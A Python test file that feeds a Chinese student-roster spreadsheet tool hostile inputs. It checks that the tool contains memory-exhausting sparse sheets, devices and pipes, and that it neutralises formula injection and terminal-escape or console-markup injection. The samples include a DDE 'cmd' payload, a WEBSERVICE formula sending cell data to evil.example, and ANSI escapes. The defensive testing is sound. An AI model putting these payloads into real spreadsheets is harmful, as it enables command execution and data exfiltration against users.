"""Round two of the hostile suite, inputs: no native abort, no live formula, no corrupt output, no
markup on the screen (issue 17). Every file is built here; a command that could abort the process
runs in a process of its own (``xueji``)."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from tests.rawxlsx import Formula, sheet_xml, write_xlsx
from tests.robustness import cli, roster_rows, xueji  # noqa: F401 (fixture)
from xueji_addin.workbook.reader import read_roster

ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')


def _far_xlsx(path: Path, far: str = "XFD1048576") -> Path:
    """A good roster with one more value, far out: a 5 KB file whose grid is 17 billion cells."""
    rows = roster_rows(size=2)
    doc = list(sheet_xml(rows))
    row = "".join(ch for ch in far if ch.isdigit())
    doc.insert(-2, f'<row r="{row}"><c r="{far}" t="inlineStr"><is><t>x</t></is></c></row>')
    return write_xlsx(path, rows, sheet_doc=doc)


def _ods(path: Path, rows_repeated: int, cols_repeated: int) -> Path:
    """A 2 KB .ods: a value, rows repeated empty, then a value after columns repeated empty."""
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS} office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="学生基础信息">'
               f'<table:table-row>{cell.format("姓名")}</table:table-row>'
               f'<table:table-row table:number-rows-repeated="{rows_repeated}"><table:table-cell/></table:table-row>'
               f'<table:table-row><table:table-cell table:number-columns-repeated="{cols_repeated}"/>{cell.format("x")}'
               '</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'))
    return path


def _one_sentence(done, *words: str) -> None:
    assert done.returncode == 2, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr and "panicked" not in done.stderr and "memory allocation" not in done.stderr
    assert all(w in done.stderr for w in words), done.stderr


# --- 3. sparse sheets: the grid is measured before python-calamine builds it -------------------

@pytest.mark.parametrize("far", ["XFD1048576", "XFD2000", "A1048576"])
def test_one_far_cell_is_one_sentence_not_an_abort(tmp_path, far):
    p = _far_xlsx(tmp_path / "远.xlsx", far)
    assert p.stat().st_size < 6000
    _one_sentence(xueji("validate", p, timeout=120), "远.xlsx", "上限", "已拒绝读取")


def test_a_far_cell_in_one_class_file_does_not_abort_the_merge(tmp_path):
    folder = tmp_path / "各班"
    folder.mkdir()
    write_xlsx(folder / "1班.xlsx", roster_rows(seed=1, size=3))
    _far_xlsx(folder / "2班.xlsx")
    done = xueji("merge", folder, "--out", tmp_path / "全校.xlsx", timeout=120)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert (tmp_path / "全校.xlsx").exists() and "2班.xlsx" in done.stdout and "上限" in done.stdout


@pytest.mark.parametrize("rows, cols", [(1_048_574, 1), (1_048_574, 16_000), (5000, 16_000)])
def test_ods_of_repeated_empty_rows_and_columns(tmp_path, rows, cols):
    p = _ods(tmp_path / "重复.ods", rows, cols)
    _one_sentence(xueji("validate", p, timeout=120), "重复.ods", "上限")


def test_a_million_rows_of_two_cells_is_refused_before_it_is_read(tmp_path):
    header = roster_rows(size=0)[0]
    body = (f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{r}</t></is></c><c r="B{r}"><v>1</v></c></row>'
            for r in range(2, 1_048_577))
    p = write_xlsx(tmp_path / "百万.xlsx", [header], sheet_doc=[*list(sheet_xml([header]))[:-2], *body, "</sheetData>", "</worksheet>"])
    done = xueji("validate", p, timeout=300)  # took 12 GB and ended in an internal error
    _one_sentence(done, "百万.xlsx", "1,048,576", "上限")


def test_xlsb_is_refused_with_a_sentence(tmp_path):
    p = tmp_path / "二进制.xlsb"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
        z.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00")
    _one_sentence(xueji("validate", p, timeout=60), "xlsb", "另存为 .xlsx")


# --- 5. formulas from data never reach an output live ------------------------------------------

LIVE = ['HYPERLINK("http://evil.example/x","点我")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example/?q="&A2)']


def _formula_cells(path: Path) -> list[str]:
    """Every formula an output holds, as ``sheet!cell: formula``."""
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}: {c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_formulas_of_the_input_are_copied_as_their_saved_values(cli, tmp_path):
    rows = roster_rows(size=3)
    name = rows[1][1]
    rows[1][1] = Formula(LIVE[0], cached=name)
    rows[2][3] = Formula(LIVE[1], cached="0")
    rows[3][4] = Formula(LIVE[2], cached="")
    src = write_xlsx(tmp_path / "公式.xlsx", rows)
    outs = {"marked": tmp_path / "m.xlsx", "fix": tmp_path / "f.xlsx", "dropdowns": tmp_path / "d.xlsx"}
    cli("validate", src, "--marked", outs["marked"])
    cli("fix", src, "--out", outs["fix"])
    cli("dropdowns", src, "--out", outs["dropdowns"])
    for what, out in outs.items():
        assert out.exists(), what
        live = [f for f in _formula_cells(out) if any(w in f for w in ("HYPERLINK", "cmd|", "WEBSERVICE"))]
        assert live == [], (what, live)
        ws = openpyxl.load_workbook(out)["学生基础信息"]
        assert ws.cell(2, 2).value == name and ws.cell(2, 2).data_type == "s", what  # the saved value, as text
    code, out, _ = cli("validate", src, "--json", "-")
    assert "不再是公式" in out  # 校验结果 and the report say what the copy did


def test_the_files_own_class_list_is_written_as_text(cli, tmp_path):
    """The hidden 学校设置 sheet is the file's own data: its class list goes into 代码表 as text."""
    toml = tmp_path / "xueji.toml"
    toml.write_text('[xueji]\nclasses = ["=HYPERLINK(\\"http://evil.example\\",\\"1班\\")", "20240101"]\n', "utf-8")
    tpl = tmp_path / "班级.xlsx"
    assert cli("template", "--out", tpl, "--settings", toml)[0] == 0
    wb = openpyxl.load_workbook(tpl)
    ws = wb["学生基础信息"]
    for c, v in enumerate(roster_rows(size=1)[1], start=1):
        ws.cell(2, c).value = v
    wb.save(tpl)
    runs = {"marked": ("validate", tpl, "--marked", tmp_path / "m.xlsx"), "fix": ("fix", tpl, "--out", tmp_path / "f.xlsx"),
            "split": ("split", tpl, "--out-dir", tmp_path / "s"), "template": ("template", "--out", tmp_path / "t.xlsx", "--settings", toml)}
    for what, args in runs.items():
        cli(*args)
    outputs = [tmp_path / "m.xlsx", tmp_path / "f.xlsx", tmp_path / "t.xlsx", *(tmp_path / "s").glob("*.xlsx")]
    assert len(outputs) >= 4
    for out in outputs:
        assert not [f for f in _formula_cells(out) if "HYPERLINK" in f], out.name


# --- 6. characters XML cannot hold never make a corrupt output ----------------------------------

def _opens(path: Path) -> None:
    """Every XML part parses (Excel refuses the file otherwise), and both readers open it."""
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(z.read(n))
    openpyxl.load_workbook(path)
    CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


def test_non_characters_and_control_characters_never_corrupt_an_output(cli, tmp_path):
    rows = roster_rows(size=4)
    rows[1][1] = "张\ufffe三"
    rows[2][1] = "李\uffff四"
    rows[3][1] = "王\x01五\x1b[31m"
    src = tmp_path / "怪字.csv"
    src.write_text("\n".join(",".join(str(v) for v in r) for r in rows), "utf-8")
    toml = tmp_path / "xueji.toml"
    toml.write_text('[xueji]\nschool_name = "第一\\u0001小学\\uFFFE"\n', "utf-8")
    runs = [("validate", src, "--marked", tmp_path / "m.xlsx"), ("fix", src, "--out", tmp_path / "f.xlsx"),
            ("split", src, "--out-dir", tmp_path / "s", "--settings", toml), ("merge", src, "--out", tmp_path / "g.xlsx"),
            ("import", src, "--out", tmp_path / "i.xlsx"), ("export", src, "--out", tmp_path / "e.xlsx", "--force"),
            ("dropdowns", src, "--out", tmp_path / "d.xlsx"), ("print", src, "--out", tmp_path / "p.xlsx", "--settings", toml)]
    for args in runs:
        code, _, err = cli(*args)
        assert code in (0, 1), (args[0], err)
    outputs = sorted(p for p in tmp_path.rglob("*.xlsx"))
    assert len(outputs) >= 8
    for out in outputs:
        _opens(out)
    back = read_roster(tmp_path / "g.xlsx").cells["name"]
    # nothing dropped: read back as it was (python-calamine leaves the escape of a non-character as it is)
    assert back[0] in ("张\ufffe三", "张_xFFFE_三") and back[1] in ("李\uffff四", "李_xFFFF_四")
    assert back[2] == "王\x01五\x1b[31m"


# --- 9. merged header cells ---------------------------------------------------------------------

@pytest.mark.parametrize("merge", ["C1:C2", "A1:A3", "D2:E2"])
def test_merged_cells_under_the_header_do_not_crash_a_copy(cli, tmp_path, merge):
    rows = roster_rows(size=3)
    rows[1][2] = "不是性别"
    rows[2][5] = ""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "学生基础信息"
    for r in rows:
        ws.append(r)
    ws.merge_cells(merge)
    src = tmp_path / "合并.xlsx"
    wb.save(src)
    for args in (("validate", src, "--marked", tmp_path / "m.xlsx"), ("fix", src, "--out", tmp_path / "f.xlsx"),
                 ("dropdowns", src, "--out", tmp_path / "d.xlsx")):
        code, _, err = cli(*args)
        assert code in (0, 1) and "内部错误" not in err, (args[0], err)
        assert Path(args[-1]).exists()
    notes = [c.comment.text for row in openpyxl.load_workbook(tmp_path / "m.xlsx")["学生基础信息"].iter_rows()
             for c in row if c.comment]
    assert notes  # the marks are there, a note of a covered cell on its merge's first cell


# --- 7. text from a file is printed as text -----------------------------------------------------

MARKUP = ["[/]", "[link=http://evil.example]点这里[/link]", "[bold red]假警告[/]", "\x1b[2J\x1b]0;标题\x07清屏", ":smile:"]


def test_cell_text_and_file_names_are_never_console_markup(cli, tmp_path):
    rows = roster_rows(size=len(MARKUP))
    sex = rows[0].index("性别")
    for r, text in zip(rows[1:], MARKUP):
        r[sex] = text  # not a 性别: each is quoted back in a finding
    src = write_xlsx(tmp_path / "班[bold]级[link=https:evil.example]\x1b[31m.xlsx", rows)
    code, out, err = cli("validate", src)
    assert code == 1, err  # a report, not a crash on "[/]"
    shown = out + err
    assert "\x1b" not in shown and "\x07" not in shown  # no escape sequence from the file reaches the terminal
    assert "[link=http://evil.example]" in shown and "班[bold]级" in shown and "␛" in shown  # shown as the text it is
    assert "[/]" in shown and ":smile:" in shown
    code, out, err = cli("merge", src, "--out", tmp_path / "全校.xlsx")
    assert code in (0, 1) and "\x1b" not in out + err and "班[bold]级" in out


# --- 13. --mask hides what the messages quote, on the screen too -------------------------------

def test_mask_hides_birth_digits_and_every_phone_on_screen_and_in_json(cli, tmp_path):
    from xueji_addin.synth import class_roster
    from xueji_addin.samples import write_roster_xlsx

    recs = class_roster(11, 2)
    ident = str(recs[0]["id_number"])
    birth = ident[6:14]
    recs[0]["birth_date"] = "20010101"  # not the ID's: the message quotes the ID's birth digits
    recs[1]["phone"] = "1381234567"  # ten digits: no mobile number, quoted back
    src = tmp_path / "班级.xlsx"
    write_roster_xlsx(src, recs)
    code, plain_out, err = cli("validate", src)
    assert code == 1, err
    assert birth in plain_out and "1381234567" in plain_out  # unmasked they show: the check below means something
    code, screen, err = cli("validate", src, "--mask")
    assert code == 1 and birth not in screen and "1381234567" not in screen and ident not in screen, screen
    assert screen != plain_out
    code, js, _ = cli("validate", src, "--mask", "--json", "-")
    assert birth not in js and "1381234567" not in js and ident not in js


# --- 14. devices, links to them and pipes are refused, not read --------------------------------

@pytest.mark.parametrize("kind", ["link to /dev/zero", "fifo"])
def test_a_device_or_a_pipe_is_one_sentence_not_a_hang(tmp_path, kind):
    p = tmp_path / "班级.xlsx"
    if kind == "fifo":
        os.mkfifo(p)
    else:
        p.symlink_to("/dev/zero")
    done = xueji("validate", p, timeout=60)  # read until memory ran out, or waited forever
    _one_sentence(done, "不是普通文件")


# --- 11. file names that are not UTF-8 ---------------------------------------------------------

def test_a_file_name_in_gbk_bytes_is_read_and_merged(tmp_path):
    """unzip of a zip made on Chinese Windows leaves GBK bytes as the name."""
    folder = tmp_path / "各班"
    folder.mkdir()
    gbk = os.fsencode(folder) + b"/" + "一年级1班".encode("gbk") + b".xlsx"
    write_xlsx(tmp_path / "tmp.xlsx", roster_rows(seed=2, size=3)).rename(os.fsdecode(gbk))
    write_xlsx(folder / "2班.xlsx", roster_rows(seed=3, size=2))
    env = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONIOENCODING": "utf-8"}
    done = xueji("validate", os.fsdecode(gbk), timeout=120, env=env)
    assert done.returncode in (0, 1) and "已损坏" not in done.stderr and "Traceback" not in done.stderr, done.stderr
    done = xueji("merge", folder, "--out", tmp_path / "全校.xlsx", timeout=120, env=env)
    assert done.returncode in (0, 1) and "Traceback" not in done.stderr and "内部错误" not in done.stderr, done.stderr
    assert len(read_roster(tmp_path / "全校.xlsx")) == 5
    _opens(tmp_path / "全校.xlsx")


def test_a_file_name_in_gbk_bytes_goes_through_every_command_that_writes(tmp_path):
    """The same GBK-named class file printed, fixed, exported, split, summarised and diffed: each
    command ends in its file or its sentence, never in an internal error."""
    gbk = os.fsdecode(os.fsencode(tmp_path) + b"/" + "一年级1班".encode("gbk") + b".xlsx")
    write_xlsx(tmp_path / "tmp.xlsx", roster_rows(seed=2, size=3)).rename(gbk)
    env = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONIOENCODING": "utf-8"}
    runs = [
        ("print", gbk, "--out", tmp_path / "确认表.xlsx"),
        ("fix", gbk, "--out", tmp_path / "修正.xlsx"),
        ("export", gbk, "--out", tmp_path / "上报.xlsx", "--force"),
        ("split", gbk, "--out-dir", tmp_path / "拆分"),
        ("summary", gbk, "--out", tmp_path / "统计.xlsx"),
        ("validate", gbk, "--marked", tmp_path / "标记.xlsx"),
        ("diff", gbk, gbk),
    ]
    for args in runs:
        done = xueji(*args, timeout=180, env=env)
        assert done.returncode in (0, 1), (args[0], done.stderr)
        assert "Traceback" not in done.stderr and "内部错误" not in done.stderr, (args[0], done.stderr)
    for made in ("确认表.xlsx", "修正.xlsx", "上报.xlsx", "统计.xlsx", "标记.xlsx"):
        _opens(tmp_path / made)
